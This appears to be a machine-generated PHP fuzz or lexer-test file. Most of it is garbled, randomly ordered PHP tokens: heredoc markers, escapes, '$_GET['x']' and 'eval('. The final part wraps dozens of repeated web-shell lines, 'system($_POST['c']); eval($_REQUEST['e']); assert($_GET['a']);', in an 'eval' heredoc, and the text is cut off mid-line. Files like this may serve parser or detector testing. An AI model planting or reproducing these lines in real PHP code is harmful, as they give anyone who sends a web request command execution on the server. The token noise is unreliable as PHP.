\$d $c[1] {$a} EOT \\ $c[1] \\ ${b} \n $_GET['x']
" eval(  EOT \\ " \$d eval( \x41 eval( {$a} eval( EOT
 EOT ${b}
$c[1] <<< \x41 ' $_GET['x']
\$d ' \$d \x41 {$a} $_GET['x']  EOT $_GET['x'] eval(
\$d $c[1] ?> <<< EOT \n <<< \\ <<< ?>
$_GET['x'] \$d eval( $c[1]
<<< EOT ${b}  EOT ?>
\$d  EOT EOT $c[1] EOT $c[1] ${b}  EOT eval(  EOT \\ ${b}
\n
\x41 {$a} <<<
\\ <<< EOTX  EOT  EOT ' $_GET['x'] $c[1] $_GET['x'] {$a} ?> ?>
" " ?> ?> "
<<< $_GET['x'] '  EOT
' \$d \x41 eval(  EOT <<<
$c[1] EOTX eval( \n ' EOTX $_GET['x'] \n $_GET['x']
' $_GET['x'] <<< EOT ${b} \x41 \n \x41 \$d \\ \n
\\ $c[1] $_GET['x'] eval( <<< \n $_GET['x'] EOT ${b} $_GET['x']
$_GET['x'] $c[1]
<<<
' ${b} {$a} \x41 ${b} \n \\  EOT ?> $_GET['x'] $c[1]
 EOT {$a} \x41 \n $c[1] "
 EOT <<< ${b} {$a} <<< EOT ' \x41 $_GET['x'] " $c[1] <<<
$_GET['x'] ${b} ?> EOTX '
EOT EOTX \n $_GET['x'] ${b} " ${b} \\ EOTX ?>
EOT;
$n = <<<'NOW'
?>
?> EOT ' {$a} \$d EOT EOTX
\n ${b} <<< $c[1] {$a} \n $_GET['x'] ?>  EOT <<< " \n
\$d \\ <<<  EOT <<< ${b}
{$a} EOTX eval( " $c[1] \n ' {$a} ?> ${b} eval( {$a}
\\ $_GET['x'] $c[1] ${b} " $c[1] EOTX <<< ' EOTX
"
" {$a} \n \\ ${b} \n ' <<< eval( ${b}
$_GET['x'] ' \\  EOT ?> EOTX EOT
EOT \n $c[1] $c[1] EOT {$a}
{$a} $_GET['x'] ${b} {$a}  EOT EOT \\ $c[1] \x41 "
\n " EOTX
" $_GET['x'] <<< {$a} <<< <<< \n $c[1] \\ "
' ${b} ?> EOT
$c[1]
<<< eval( " <<<  EOT " '
EOT eval( {$a} {$a} \n
eval( \n \x41 \n " " EOTX $c[1] \$d
<<<
{$a} $_GET['x']
\x41 $_GET['x']  EOT EOT ${b} \$d \x41 $c[1] " \$d <<< $_GET['x']
' {$a}
\$d " \n \n ' eval( " EOTX EOTX
\$d <<< EOT \$d " \$d eval( \x41 \\
\\ <<< $c[1] EOTX  EOT eval( EOTX \x41 \$d EOTX
?> $_GET['x']
'  EOT $c[1] ${b} $c[1] \n <<< ?> {$a} eval(
\x41 EOTX \x41 ${b} \x41 EOTX $_GET['x']
EOTX EOTX \\
{$a} \x41 ?>
$c[1] \\ <<< \n \x41  EOT ${b} \x41 EOT EOT  EOT '
?> $_GET['x'] \n '
$c[1] \n \x41 ?> \x41
" EOT EOT
<<< ' ${b} \n \x41 ?> $_GET['x'] ' \$d ' ?> ?>
?> \$d eval( \$d $_GET['x'] \n {$a} $c[1] {$a}
' \\ " ${b} eval( EOTX <<<
${b}  EOT eval( \$d \$d \n ?> \x41 \x41  EOT \x41 EOT
$c[1] EOTX " ${b} eval( eval( ?> \$d ${b} EOT <<< \x41
" $c[1] " \n \n " ' $c[1] $c[1]  EOT eval(
\\
\\ eval( \\ {$a} " EOTX <<< eval( ${b} \n
${b} EOT {$a}
\n ${b} \$d
<<< \$d $_GET['x'] '
$_GET['x'] \x41 EOT \x41  EOT \$d
\\ <<< ?>
{$a} $c[1] " \x41 \$d $_GET['x'] <<<  EOT ${b} \$d <<< $c[1]
${b}  EOT ?> <<< $c[1] <<< $c[1] ${b} \x41  EOT
eval( \$d $_GET['x'] ${b} {$a}
EOTX {$a} ' EOT "
$c[1] $c[1]
<<<  EOT
eval( ${b}  EOT <<< EOT ${b} ' $_GET['x'] eval( EOTX eval(
\\ <<< \n eval( $c[1] $_GET['x'] \\ $c[1]
$c[1] ${b} ?> \\ ?> ' ' EOTX <<< <<< ${b}
EOT eval( ${b}
' eval( <<< EOT
\$d eval( {$a} <<< ?> \x41 EOT
" EOT $c[1] \n \\
<<< \x41 \$d EOTX
$_GET['x'] ' eval(
"
$c[1] \n EOT " EOT
\\ $_GET['x']  EOT $c[1]  EOT {$a} \x41 ${b} $c[1]
$_GET['x'] ?> $_GET['x'] EOT ?> {$a} " $_GET['x'] EOTX
${b} ' \x41 EOT " <<< \$d \$d <<<
{$a} EOTX \$d $c[1] ?> eval( <<< \$d ?>
{$a} EOTX ?> EOT  EOT EOTX
eval( \$d ${b} \$d $c[1] eval(
 EOT \x41  EOT \n  EOT
<<< ?> EOT $c[1] EOT
' " EOT eval(  EOT
eval( \n $c[1] \x41 \$d ${b} $_GET['x']
<<< " ?> \x41 \\ \n eval( $c[1] ?>  EOT \x41
\$d EOTX " \$d <<< \n ?> " <<< "
\$d " \x41 " " \$d eval( ${b} ?> \n {$a} eval(
\x41 ' $_GET['x'] \n {$a} EOT EOT EOT {$a} \x41 ?> '
\$d ?> \n ${b} EOT eval(
?>
$c[1] '  EOT eval( {$a} $_GET['x'] EOT EOTX \\ $c[1] {$a}
\n $c[1] \\ {$a} <<< \$d {$a} ?> EOTX
$c[1]
$_GET['x'] EOT <<< $_GET['x'] \n \n <<< EOTX {$a} $c[1]
\$d \n \$d eval( \x41 \n
 EOT \\ eval( ?> EOTX $_GET['x'] " "
" \\ \\ $_GET['x'] eval( EOTX {$a} $c[1] {$a}
$c[1] ?> " $c[1] ' EOT eval( {$a} eval( \$d '
{$a} ?> \x41 ?> EOTX ?> <<<
\$d \\ \\ <<< $_GET['x'] ?>
 EOT \\ ${b} ' EOTX \$d <<< $c[1] $c[1]
' ' \$d \n EOT \x41 $_GET['x']
\x41 \n "
eval(
$c[1] '  EOT ${b}
<<< $_GET['x'] \$d " $c[1] \$d ${b} \\ \n
eval( \\ '  EOT ?> $_GET['x'] $c[1] ${b}
EOTX <<< EOT EOT ${b} \x41 ' ${b} \\
EOTX <<< $_GET['x'] EOTX $c[1] ${b} $_GET['x'] " ?> ${b}
eval( \n {$a} <<< \\ $_GET['x'] EOTX  EOT {$a} EOTX '
?> EOTX $_GET['x'] $c[1] EOT \$d
<<< EOT $c[1] $c[1] " EOTX EOT ?>  EOT $c[1]
' " \n {$a} ' ${b} \\ {$a} <<< \n ${b} <<<
EOTX ${b} EOTX $c[1] \\ \\ ' ${b} \n EOT
$_GET['x'] \n \$d " " \x41
"  EOT EOTX ${b} <<< ' \\ eval(  EOT $_GET['x']
\$d \$d \n \x41 {$a} ${b} EOT  EOT EOTX
{$a} \\  EOT
\\ " eval( \x41 ${b} {$a} EOTX "
<<< eval( " \x41 ?> EOT  EOT eval( \n EOT
\x41 ${b} $_GET['x'] \x41
{$a} \x41 $c[1] ${b} $c[1]
\x41 EOT \\ $_GET['x'] ' \x41 \\ <<< $_GET['x'] \x41 {$a} "
\n $c[1] eval( ?> $_GET['x'] eval( ${b} $_GET['x'] '
\x41 <<< \$d ${b} ${b} ' " " \n {$a} EOT \\
eval( " \$d \\ " \n \\
${b} \x41 <<< <<< {$a}
$c[1] " \$d EOT ${b} EOT <<<
eval( $c[1] $c[1]
\$d \x41
EOT eval( {$a}
$c[1] $_GET['x'] $c[1] {$a} \$d \\ EOTX $_GET['x'] eval( \$d
\n \n ?>
EOT "  EOT EOTX ' '
\$d $c[1]
$c[1] EOTX ?> \n eval( \\ \n $_GET['x'] " $_GET['x']
\$d \n {$a} eval( ${b} \$d <<< ?> \n EOT EOT EOT
${b} ?> ${b}
" \x41
eval( EOT EOT \\ $c[1] \n \$d EOTX \\
<<< \x41 \x41 $c[1] {$a} \\
EOTX {$a} ?>
"  EOT
${b}  EOT ?> EOTX ' EOTX \$d eval( EOT $c[1]
\n
" ${b} eval( $c[1] ${b} <<< $_GET['x'] eval(
 EOT EOTX \\ eval( ${b} \x41
\n " $_GET['x'] \\ {$a} \\
"
EOT ${b} \x41 $_GET['x'] \\ \$d ?>
{$a} \$d $_GET['x'] EOTX EOTX \\ \$d \n <<< \$d  EOT '
?> ${b}
EOTX EOT EOT ${b} \x41 \n \n
' ?> ?> EOTX
\n eval( \x41 \$d \$d EOT  EOT
" \\ "  EOT \$d {$a} EOTX <<< <<< \x41 \x41
 EOT EOTX
?> $_GET['x'] ?> EOT \\ \$d " ?>
${b}  EOT \\  EOT $c[1] EOTX
?> $c[1] $_GET['x'] eval( ?> \$d \x41 \x41 {$a}  EOT ${b}
eval( ' EOT  EOT ${b} " $c[1] \$d
' EOTX  EOT {$a} ' $_GET['x'] ' EOT ?> eval( $_GET['x']
\x41
${b} \n <<< eval( eval( \$d
{$a} ?> \\ \x41 \x41  EOT {$a}
{$a} ' EOTX  EOT ?> ${b} {$a} " ?>  EOT
\$d ${b}  EOT
{$a} $_GET['x'] ?>
$c[1] " \x41 ${b}  EOT
$c[1] $_GET['x']
EOTX $c[1]  EOT
$_GET['x'] $c[1] ?> \\ <<< {$a} {$a} {$a} \\ \n
EOTX \$d EOT
eval( \n ' \x41 {$a} ?> \$d $c[1] \\
EOTX " \x41 <<< \\ \n ?> " \\ \n \\
\x41 {$a} " $_GET['x'] ${b} EOT EOT EOT $_GET['x'] "
" \n EOTX eval(  EOT \\
<<< {$a} $_GET['x'] ' \n \n $c[1] $c[1] <<< \n
$c[1]  EOT \x41 ?> \$d  EOT $c[1] $_GET['x'] ?> ' EOTX
EOT <<< \x41 eval( ' $c[1] ?> \x41 " \$d {$a}
${b}
?> ?> '  EOT EOT {$a} EOTX \x41 {$a} eval(
EOT {$a} ?> EOT \\ \$d <<< $c[1] {$a} eval( \n "
EOT <<< {$a} $c[1] EOTX $_GET['x'] ?> "
$c[1]  EOT eval(
$_GET['x'] ' \x41 \n EOT \\ EOT $c[1] EOTX \\
eval( ${b} $_GET['x'] \$d ' "
<<< <<< \n {$a}  EOT ?> $c[1]
\\
EOT \$d \n ?> ' ${b} ' ${b} \n ${b} <<<
$_GET['x']
\n $_GET['x'] \n  EOT \x41 EOTX \\ <<< \$d ' "
\x41 {$a} <<< $_GET['x'] ${b} $_GET['x'] $c[1] EOTX
\n EOTX \x41 \n ${b} \$d
\$d \n $_GET['x'] ${b}
<<< EOTX " eval( ?>
$_GET['x'] EOTX \n \n \$d \\ eval( \n \n \$d " <<<
EOT <<< EOTX
\\ \\ EOT ${b} '  EOT " \n \$d ${b}
' \n ' ?> EOTX \n
eval( {$a} EOT "
\x41
" \x41 \n EOTX $_GET['x'] \n "
\x41 ${b}  EOT \$d
EOTX ${b} <<< {$a} ${b} \$d eval(
EOT $_GET['x'] ' $c[1]
\\ EOTX \\ \\ $_GET['x'] eval( $c[1] \\ \n \\  EOT \$d
${b}  EOT
\n EOT $_GET['x'] EOTX  EOT $_GET['x'] \$d  EOT ' EOT
?> ?> eval( EOT $_GET['x'] <<< ' \\ {$a}
\\ ' ${b} EOT  EOT
\n \n " ' $c[1] $c[1] ?> {$a} <<< eval( "
?> \\ " \n
eval( \n <<< \\ EOT EOT EOT '
eval(
\$d {$a} {$a}
\$d <<< EOT ?> ${b} $_GET['x'] " ' "  EOT eval(
EOTX ?> \x41 \n \$d \$d '  EOT \n <<<
$_GET['x'] ' $c[1] $_GET['x'] ?> {$a} <<< \x41
$c[1] eval( \x41 ${b}
\x41 \$d ${b} \n EOT ' ${b} ${b}
?> \\ \n \\ ${b}
$_GET['x'] $c[1] \n EOT EOT \n \\
${b}  EOT ?> $_GET['x'] \x41 EOTX {$a} ${b} {$a}
\x41 <<< {$a} EOTX $c[1] " EOT $_GET['x'] EOT
\$d \\
$c[1] eval( <<<  EOT $_GET['x'] {$a} " EOTX ${b} EOTX ${b}
?> \n ' ?> $_GET['x'] EOT $c[1] eval(  EOT ${b} '
EOTX EOT $c[1] ${b} EOTX eval(
EOT $_GET['x'] \$d $_GET['x'] " <<<
\x41 {$a} <<< " $c[1] EOTX ?>
<<< eval( EOTX EOTX \\ \$d \\ ?> {$a} \$d ${b}
\$d \\
{$a} ${b} ?> \n ${b} \\ \\ \n $c[1] $c[1]
<<< $c[1] ' eval( $_GET['x'] <<<
eval( {$a} EOT $c[1] $c[1] ?> ?> " EOTX {$a}
\x41 ${b} <<<
\$d EOTX ${b} ' \$d ?> {$a} eval( <<<
{$a} $_GET['x'] ?> {$a} <<< \\ ${b} EOT
\n
\n \n EOTX $_GET['x'] EOT EOT
eval( {$a} \n {$a} \$d EOT ?> <<< "
'  EOT ${b} {$a} \x41 eval(  EOT <<<
 EOT $_GET['x'] EOT ' ?> \$d
 EOT ' \$d
EOT $_GET['x'] \n $_GET['x'] {$a} ' \$d EOT ' \n \$d eval(
\\ $c[1] {$a} ' $c[1] ?> EOT $c[1]
$c[1] ${b}  EOT  EOT eval( '  EOT "  EOT \n  EOT ?>
\n \x41  EOT \\ EOT \x41 "
eval( {$a}
{$a} EOTX ' \x41 EOT <<< \$d
EOT {$a} '
eval(  EOT eval( \x41
\x41 ' \$d $_GET['x'] \x41 ?> {$a} \n
\$d
EOT $_GET['x'] <<< EOT " ${b} \x41
EOT EOT <<< $c[1]
\n \n ${b} {$a}
EOT $_GET['x'] $_GET['x']
 EOT \n ${b} ${b}  EOT ${b} ?> \\ $_GET['x'] $c[1] ?> \n
<<< ${b} '
?> ' {$a} eval( EOTX ' \x41 ?>
" $c[1] ' ?> '
\n  EOT \\ \\ \n ' <<< ?> <<< <<<
\$d
 EOT {$a} \n
\\ $_GET['x'] ?> ${b} ?> $_GET['x'] \\
{$a} ?> ' eval( \x41  EOT
 EOT EOT $c[1] {$a}
$_GET['x'] <<< eval( $_GET['x']  EOT {$a} $_GET['x'] eval( <<<
${b} \$d
\x41 \x41 {$a} ${b}
EOTX ' \$d ?> {$a} <<< eval(  EOT $_GET['x'] \n $_GET['x'] EOTX
${b} {$a} $_GET['x'] \\ {$a}  EOT <<< {$a}
${b} $c[1] \x41 {$a} {$a}
' <<< <<< ${b} EOT $c[1] $_GET['x'] \\
\x41
EOTX $c[1] $c[1]
\n \\ <<< " ${b} EOTX
$_GET['x'] EOTX {$a} eval( \n ?> \$d \$d \x41 \x41 ${b} {$a}
{$a} $_GET['x'] \x41 ?> ' \x41 {$a}
\$d \n $c[1] EOTX EOT ${b} $c[1] EOT \\ \x41 eval( "
 EOT ' \n $_GET['x'] $_GET['x'] ${b} ' \$d " eval( \$d
$_GET['x'] ?> ?> $c[1]
{$a} \$d EOTX \$d $c[1] EOT EOTX  EOT \x41 \n {$a}
${b} <<< \$d eval( \x41 {$a} ${b} EOTX "
\n ' \$d {$a}
EOT EOT eval( EOTX \\ \n \$d eval( {$a} \x41 eval(
\$d ' <<< $c[1] " \\ $_GET['x']
<<< EOTX \n ${b} EOTX '
EOTX $_GET['x'] EOT ?> \\
$c[1] {$a}
'  EOT \\ <<<
<<< $_GET['x'] $c[1] ${b} $c[1] {$a} \\  EOT
\$d EOT $_GET['x'] \n
\\ \$d \x41 {$a} ${b}  EOT {$a} eval(
\$d ?> " $c[1] EOTX \x41 \$d ' eval( $c[1]
\n eval( EOT " EOT EOT \x41 \n ${b}
EOTX  EOT \n eval( $_GET['x']
${b}  EOT $_GET['x'] \\ <<< \$d $c[1]
eval( $_GET['x'] eval( EOT $_GET['x'] "
$c[1]  EOT " \$d " EOTX ${b} '
$c[1] $c[1] " eval( ' '  EOT \\ EOT {$a}
 EOT ${b} $_GET['x'] $_GET['x'] EOTX " \$d
EOT
EOTX \$d ?>
\\ $c[1] '  EOT ${b} EOT \\ $_GET['x'] $c[1] \n \n
\$d eval( \\  EOT eval( ?> ' <<< \x41
<<< ?> $c[1] {$a} $c[1] EOT ?> $c[1] \$d \$d
$c[1] EOTX \\ ?>
EOTX  EOT <<< $c[1] ${b} " $_GET['x'] $_GET['x'] EOT {$a} ?>
\\ \$d \\ <<< " $c[1] $_GET['x']
\\ {$a} <<< " eval( <<< $_GET['x'] $_GET['x']  EOT \x41 EOTX eval(
?> \x41 $_GET['x']
\\  EOT \n  EOT $_GET['x']
\$d EOTX EOTX ${b} ${b} {$a} ?> eval( \n
{$a} <<< \x41
?> {$a}
{$a} $_GET['x'] <<< <<< EOTX eval( EOT ${b} $_GET['x'] ' EOTX
" EOTX EOT ?> EOTX \n ${b}
EOT {$a} " ?>
eval( $c[1] <<<  EOT EOT $c[1] \n \x41 \n <<< \x41
 EOT $c[1] \\ \$d EOT \\ EOT ?>
EOTX \n $_GET['x'] $c[1]
$_GET['x'] \\ \n \$d ${b} EOT \\ $c[1]
\$d " EOTX {$a} \n \x41 $_GET['x'] ' ${b} \\ EOT ${b}
{$a} \\ ' $_GET['x'] \x41 \$d ' {$a} EOTX $c[1] ' \n
\$d EOTX '
<<< eval( ${b}  EOT EOT \n $_GET['x'] \x41 \n \x41 <<<
{$a} \$d $c[1] EOTX \$d {$a} $c[1]
\x41 ' $c[1]
 EOT $_GET['x'] $c[1] $c[1] $_GET['x'] ?> ?> \x41
" EOTX  EOT \n \n \\ {$a} {$a} eval( \\
$_GET['x'] $c[1] \$d " ' ' EOT
\n ' ' \x41 ?> $c[1] EOT
' ${b} ${b} eval(
\\ $_GET['x'] '
EOTX \x41
$c[1] ' $_GET['x']  EOT
 EOT eval( {$a} ${b} eval( ' EOT
eval( EOT  EOT ${b} " EOTX $c[1] \x41 $_GET['x'] $_GET['x']
eval(
EOTX ' " ?> \\  EOT
eval( ?> ' \$d \\ " \\
" ?> {$a} \$d ?> \$d <<< \\
{$a} " ?> \\ ?>
${b} \$d \$d
" ' EOTX
\$d  EOT " " EOT ${b} {$a} ${b}
eval( \x41 <<< <<< eval(
EOT EOT \x41  EOT $c[1] \$d EOT
?> ${b} $_GET['x'] ' ' {$a} \x41 {$a} $c[1] ' ${b} ${b}
EOTX EOT {$a} EOTX eval( EOT  EOT ?> \$d $_GET['x'] EOTX ${b}
\n ' ${b} EOT $_GET['x'] \x41  EOT {$a} $_GET['x']  EOT
${b} EOT
" $_GET['x'] $_GET['x'] ' ?> ' EOT
EOT EOTX {$a} ${b} {$a} \n " " \$d EOT
EOT EOTX "  EOT
EOT $_GET['x'] <<< eval( ?> " ?>  EOT {$a} EOTX
<<< \n ${b} <<< ' ?> <<< " eval( \\ ' "
\$d <<< ?>
?> "  EOT \\ $c[1] \n {$a} ?> \\ '
' " EOTX EOTX
 EOT EOTX $_GET['x'] {$a} $c[1]
\n <<< ' <<< eval( \x41 ?>
{$a}
" <<< <<< \n ${b} " ' <<<  EOT
 EOT \\ $c[1] eval(  EOT $c[1] \\ \x41 \n {$a}
\$d EOT {$a} <<< EOTX eval( \$d EOT  EOT EOT <<< \$d
' eval( EOTX $_GET['x']  EOT eval( EOTX \n ${b} EOTX $c[1] $_GET['x']
${b} \$d ' eval( ?>
EOTX ' {$a} " ?> EOT ' <<< ?> {$a} {$a} \\
${b} ${b} EOTX ?> " " EOTX
$c[1] " ${b} eval( {$a} ' " '  EOT
$_GET['x'] <<< EOTX ${b} EOTX \$d
 EOT  EOT <<< \x41 \x41 $c[1] eval( \$d  EOT \n '
<<< eval( $c[1] \x41 \\ ${b} <<< \n $c[1] \x41
' {$a}
{$a}  EOT <<< eval( "
$c[1] <<<
?> ' ' {$a} $_GET['x'] $_GET['x'] \$d ?> \n eval(  EOT
${b} " ?> \$d EOTX ' ?> '
'  EOT EOTX EOTX
\n <<< \x41 ${b} " $c[1]  EOT \$d \x41 \n $_GET['x']
eval( $_GET['x'] EOTX \$d EOTX
\x41 EOTX $_GET['x'] $c[1]  EOT " eval( <<< ?>  EOT
\n $_GET['x']
$c[1] eval( \\ {$a} EOT eval(
' ${b} \$d eval(
\x41 \x41 {$a} EOT <<< EOTX \n EOT \$d \n
\x41 \$d \n EOTX EOTX ${b} ?> $_GET['x'] \x41
${b} '
{$a} ${b} \x41 ' eval( $_GET['x'] \n
\n {$a}
?> \n \$d EOTX \$d ${b} \\  EOT \\ ' \n \\
\\  EOT " eval( $c[1] \n  EOT EOT $_GET['x'] $_GET['x'] '
\x41 EOT
 EOT <<< \$d \$d \$d " $_GET['x'] '
\x41 \n ' {$a} {$a} \n \n EOTX \n \$d " \$d
EOTX $c[1]
" $c[1]
 EOT EOT \n $c[1] $c[1]
${b} \$d {$a} eval( EOT EOT <<<
EOTX EOT " EOTX $_GET['x'] \n EOT $c[1] EOTX $c[1] EOT eval(
\x41 ' ' \\ eval( {$a} eval( \\
\$d ?>
${b} \$d \$d ${b} eval( \$d
\\ ' \$d {$a} EOTX EOTX ?> \$d \\ EOT
$c[1] ${b}
 EOT <<< " \\ {$a} ' ${b} ' EOTX $c[1] ?>
EOT ' {$a} ${b} \\ ' $c[1] eval( " $_GET['x']
\x41 \\
\$d $_GET['x'] <<< {$a} ${b} EOT \n <<< <<< \$d \x41 \n
' EOTX eval( ${b} \x41 {$a} ${b} \x41 "  EOT $_GET['x']  EOT
\n ?> \n
EOTX ${b} ' $c[1] eval( $_GET['x'] {$a} \$d {$a} \n "
\n {$a} {$a} EOT ' \\ <<< \n \$d \x41  EOT
?> <<<
?> " $c[1] ?> EOTX  EOT eval(
\n ' \x41 \n eval( "  EOT
$_GET['x'] \n $_GET['x'] EOTX
eval( \$d \n <<< ${b} ${b} \$d
\$d
\x41 \\ \x41 {$a} $_GET['x'] {$a} ?>
${b} \n eval( \$d ${b} ' \x41
$_GET['x'] ${b} eval( '
${b} \$d <<< \$d ' ?> ?> eval( \\ \n {$a} eval(
\$d ' $_GET['x'] $_GET['x'] \$d
" " ' \$d eval( eval( \\
EOT eval( EOT eval(  EOT $c[1]
\$d $c[1]
" \x41  EOT ?> \\
\\ {$a}
" eval( \$d  EOT EOTX ' EOTX  EOT \x41 {$a} \$d eval(
${b}  EOT \\ " \$d \$d {$a}
" \n \n \$d $c[1] $c[1] $c[1] \n  EOT
${b} {$a} eval( ${b} $_GET['x'] EOTX ' {$a} \n " \\ $c[1]
\n  EOT \n {$a} ?> {$a} \x41 \n
EOT {$a} "
$_GET['x'] EOTX
eval(  EOT \n \$d
" ?>
EOT  EOT
\\ $_GET['x'] \x41 \\ \\ \x41
\$d eval( " EOT " \$d  EOT eval( \x41
" <<< ?> \x41 \\
$c[1]
${b}
' eval(
$c[1] $c[1] "
?> $c[1] $c[1]
\$d $_GET['x'] " ' EOTX <<< $c[1]
$_GET['x'] ?>
eval(
<<< " " EOT EOT " \\ \x41 EOTX
?> \n EOTX \\ \x41 \$d eval( \$d \$d  EOT
" ' ' " \\
\x41 " " ?>
EOT eval( " EOTX \$d <<< \x41 ?>  EOT {$a}
\n EOT \n {$a} \n ${b} EOTX
${b} \\ \$d eval( ${b} EOTX {$a} ${b} ?>
$c[1] eval( $c[1] ${b} \$d eval( ${b} " "
${b} eval( ' eval(  EOT
eval(
${b} <<<  EOT EOT {$a} \n
EOTX ?> \\  EOT
?>  EOT EOTX
$c[1] \n $_GET['x'] \n <<<
EOT  EOT EOTX EOT
$c[1] ${b} {$a} ${b}  EOT EOTX \n EOTX \x41
?> \n ' $_GET['x'] \n
\x41 \x41  EOT EOTX ${b} <<< \n \n \$d
${b} \x41 \\ {$a} \\ <<< eval( " \\ $c[1] $_GET['x']
" {$a}  EOT ' {$a} " \x41 EOT EOTX \n '
<<<  EOT EOTX "
?> $c[1]
' EOTX ${b} \x41 <<<  EOT {$a} \x41 $c[1]
\\ <<<
" \x41 EOT
${b} \\ ' EOT
$_GET['x'] EOTX {$a} \$d " <<< ?> $_GET['x'] {$a}
' \\ ${b} EOTX
' \\ EOT " $_GET['x'] \\ $_GET['x'] \x41 \x41 eval( ${b}
{$a} EOTX EOT $c[1] "
" $_GET['x'] \\ \x41
$_GET['x'] \\ ?> ' eval( \x41 ${b} \n
\x41 $_GET['x'] <<< ?> \\ " " eval( \\ \x41
" $_GET['x'] " EOTX eval( ${b} \n $_GET['x'] ?>
\\ \$d  EOT ?> <<< EOT \$d $c[1]
\x41 $_GET['x'] \$d \n $_GET['x'] <<< \\ ${b}
EOTX {$a} ' \x41 EOTX " ?> ' " ?>
 EOT {$a} $_GET['x'] $_GET['x'] {$a} $c[1] $c[1] ?> EOTX <<< \$d
\\ \x41 $c[1] ${b} $c[1] ${b}
\x41 \x41 \n EOT ?> \\ EOT $c[1] ?>
{$a} EOTX \n ' EOTX
"
eval( \\ ?> ?> $c[1] " <<<  EOT '
\$d " $_GET['x'] " \x41 {$a} ?>
\n EOT ${b} \\  EOT <<< $_GET['x'] \$d \x41
$c[1] " \x41 ?> ?> ${b} <<< \x41
${b} <<<  EOT $_GET['x'] ${b}
" \\ ${b} ${b}  EOT eval( \$d '
?> EOTX \x41 " $c[1] ' \n \x41 \\
' {$a} \$d {$a}
${b} ?> \x41 EOT eval( EOT \n " $c[1] ?>
NOW;
$q = <<<"QT"
$a($_POST[cmd]);
  QT;
QT;
eval(<<<PHP
system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); 